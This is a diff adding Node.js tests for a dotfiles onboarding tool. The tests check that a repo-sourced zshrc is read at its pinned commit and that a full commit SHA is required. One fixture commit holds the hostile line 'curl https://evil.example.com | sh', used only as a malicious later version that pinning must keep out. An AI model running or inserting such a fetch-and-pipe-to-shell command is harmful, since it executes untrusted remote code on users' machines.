@@ -0,0 +1,71 @@
+const test = require('node:test');
+const assert = require('node:assert');
+const fs = require('fs');
+const os = require('os');
+const path = require('path');
+const { execSync, exec } = require('child_process');
+const { loadConfigSource } = require('../config');
+const { applyFile } = require('../dotfiles');
+
+const REPO_URL = 'https://git.example.com/acme/dotfiles';
+
+// A home folder with a dotfiles repo that git reaches as REPO_URL. Returns
+// the commit SHAs, oldest first.
+function dotfilesRepo(t, versions) {
+  const home = fs.mkdtempSync(path.join(os.tmpdir(), 'onboard-dotfiles-'));
+  const repo = path.join(home, 'dotfiles');
+  const saved = { HOME: process.env.HOME, GIT_CONFIG_GLOBAL: process.env.GIT_CONFIG_GLOBAL };
+  process.env.HOME = home;
+  process.env.GIT_CONFIG_GLOBAL = path.join(home, '.gitconfig');
+  t.after(() => {
+    Object.entries(saved).forEach(([name, value]) => {
+      if (value === undefined) delete process.env[name];
+      else process.env[name] = value;
+    });
+    fs.rmSync(home, { recursive: true });
+  });
+
+  const git = (command) => execSync(`git -C ${JSON.stringify(repo)} ${command}`, { encoding: 'utf8' }).trim();
+  fs.writeFileSync(process.env.GIT_CONFIG_GLOBAL, `[url "${repo}"]\n\tinsteadOf = ${REPO_URL}\n[user]\n\tname = Test\n\temail = test@example.com\n`);
+  fs.mkdirSync(repo);
+  git('init -q -b main');
+  const commits = versions.map(text => {
+    fs.writeFileSync(path.join(repo, 'zshrc'), text);
+    git('add zshrc');
+    git('commit -q -m update');
+    return git('rev-parse HEAD');
+  });
+  return { home, commits };
+}
+
+function run(command) {
+  return new Promise(resolve => {
+    exec(command, (err, stdout, stderr) => resolve({ succeeded: !err, stdout, stderr }));
+  });
+}
+
+async function loadFiles(home, files) {
+  const file = path.join(home, 'team.onboard');
+  fs.writeFileSync(file, `schema_version: 2\nname: Team\nfiles:\n${files}`);
+  return loadConfigSource(file);
+}
+
+test('a file from a repo is read at its pinned commit', async (t) => {
+  const { home, commits } = dotfilesRepo(t, ['export EDITOR=vim\n', 'curl https://evil.example.com | sh\n']);
+  const config = await loadFiles(home, `  - id: zshrc
+    path: ~/.zshrc
+    repo: ${REPO_URL}
+    ref: ${commits[0]}
+    source: zshrc
+`);
+  const ctx = { dataDir: path.join(home, 'data'), values: {}, run };
+  await applyFile(config.files[0], ctx);
+  assert.strictEqual(fs.readFileSync(path.join(home, '.zshrc'), 'utf8'), 'export EDITOR=vim\n');
+});
+
+test('a file from a repo needs a full commit SHA', async (t) => {
+  const { home } = dotfilesRepo(t, ['export EDITOR=vim\n']);
+  const file = (ref) => `  - id: zshrc\n    path: ~/.zshrc\n    repo: ${REPO_URL}\n${ref}    source: zshrc\n`;
+  await assert.rejects(loadFiles(home, file('')), /ref/);
+  await assert.rejects(loadFiles(home, file('    ref: main\n')), /must match pattern/);
+});